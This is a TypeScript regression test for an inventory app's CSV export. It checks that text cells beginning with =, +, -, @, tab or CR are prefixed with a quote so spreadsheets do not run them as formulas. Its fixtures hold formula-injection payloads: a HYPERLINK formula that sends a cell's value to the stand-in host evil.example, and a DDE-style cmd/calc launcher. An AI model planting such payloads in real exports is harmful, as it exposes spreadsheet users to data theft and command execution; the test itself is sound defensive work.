import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spreadsheetSafe } from '../../../src/lib/analytics/export-csv';
import { reorderAlertsCsv } from '../../../src/lib/analytics/inventory';
import type { DuckDBWasmEngine } from '../../../src/lib/sql/duckdb-wasm-engine';
import { openDuckDBWasmNode } from '../../../src/lib/sql/duckdb-wasm-node';
import { createInventoryFixture } from '../analytics/operations-fixture';

/**
 * Finding 6: the reorder-alert CSV wrote `"=HYPERLINK(""http://evil.example/?""&B2,""click"")"` from a
 * product name, which a spreadsheet runs as a formula. Every text cell that starts a formula now starts
 * with `'`.
 */
describe('regression: CSV exports carry no formulas', () => {
	let sql: DuckDBWasmEngine;
	const HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"click")';
	beforeAll(async () => {
		sql = await openDuckDBWasmNode();
		await createInventoryFixture(sql);
		// The fixture's three alerts are for P1 (twice) and P2, at stores S1 and S2.
		await sql.exec(`
			UPDATE gold_dim_product SET product_name = '${HYPERLINK.replaceAll("'", "''")}' WHERE product_id = 'P1';
			UPDATE gold_dim_product SET product_name = '@SUM(1+1)*cmd|'' /C calc''!A0', category = '+Apparel' WHERE product_id = 'P2';
			UPDATE gold_dim_store SET store_name = '-2+3+cmd' WHERE store_id = 'S1';
			UPDATE gold_dim_store SET store_name = chr(9) || 'tab', city = chr(13) || 'cr' WHERE store_id = 'S2'`);
	});
	afterAll(() => sql?.close());

	it('prefixes every text cell that starts with =, +, -, @, a tab or a CR with a quote', async () => {
		const csv = await reorderAlertsCsv(sql, {});
		expect(csv).not.toMatch(/(^|,)"?[=+@\t\r-]/m);
		expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&B2,""click"")"`);
		expect(csv).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0,'+Apparel`);
		expect(csv).toContain(`,'-2+3+cmd,`);
		expect(csv).toContain(`,'\ttab,"'\rcr",`);
		// Parsed back by DuckDB: the texts are the names with one quote in front, the numbers unchanged.
		await sql.registerFile('alerts.csv', new TextEncoder().encode(csv));
		const { rows } = await sql.query(
			`SELECT store_name, product_name, category, suggested_cost FROM read_csv('alerts.csv', header = true,
			 all_varchar = true, quote = '"', escape = '"') ORDER BY store_id, product_id`
		);
		await sql.dropFile('alerts.csv');
		expect(rows).toEqual([
			{
				store_name: "'-2+3+cmd",
				product_name: `'${HYPERLINK}`,
				category: 'Electronics',
				suggested_cost: '240.00'
			},
			{
				store_name: "'-2+3+cmd",
				product_name: "'@SUM(1+1)*cmd|' /C calc'!A0",
				category: "'+Apparel",
				suggested_cost: '48.00'
			},
			{
				store_name: "'\ttab",
				product_name: `'${HYPERLINK}`,
				category: 'Electronics',
				suggested_cost: '372.00'
			}
		]);
	});

	it('leaves plain numbers, negative ones included, as they are', () => {
		expect(spreadsheetSafe('-12.50')).toBe('-12.50');
		expect(spreadsheetSafe('0')).toBe('0');
		expect(spreadsheetSafe('-1e3')).toBe("'-1e3");
		expect(spreadsheetSafe('Phone')).toBe('Phone');
	});
});
